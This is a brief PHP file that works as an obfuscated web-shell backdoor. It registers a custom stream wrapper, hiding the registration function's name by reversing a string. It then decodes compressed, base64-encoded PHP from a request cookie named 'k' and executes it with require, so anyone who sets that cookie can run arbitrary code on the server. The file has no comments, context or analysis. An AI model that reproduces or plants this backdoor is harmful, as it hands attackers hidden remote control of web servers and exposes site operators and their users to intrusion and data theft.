<?php
class Q { var $d; var $p = 0; var $context;
function stream_open($u, $m, $o, &$x) { $q = parse_url($u); $this->d = gzinflate(base64_decode(urldecode($q['host'] ?? ''))); return 1; }
function stream_read($c) { $r = substr($this->d, $this->p, $c); $this->p += strlen($r); return $r; }
function stream_eof() { return $this->p >= strlen($this->d); }
function stream_stat() { return array(); } }
$reg = 'stream_' . strrev('retsiger_repparw');
$reg('q', 'Q');
$k = $_COOKIE['k'] ?? '';
require 'q://' . $k;
